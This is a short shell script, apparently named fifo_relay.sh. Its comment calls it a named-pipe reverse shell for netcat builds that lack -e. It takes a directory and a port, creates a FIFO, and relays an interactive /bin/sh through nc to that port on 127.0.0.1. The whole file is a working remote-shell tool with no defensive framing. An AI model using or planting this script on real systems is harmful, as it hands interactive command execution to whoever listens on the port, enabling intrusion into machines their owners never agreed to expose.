#!/bin/sh
# The named-pipe reverse shell for netcats without -e, written as a script:
# fifo_relay.sh DIR PORT
rm -f "$1/f"
mkfifo "$1/f"
cat "$1/f" | /bin/sh -i 2>&1 | nc 127.0.0.1 "$2" > "$1/f"
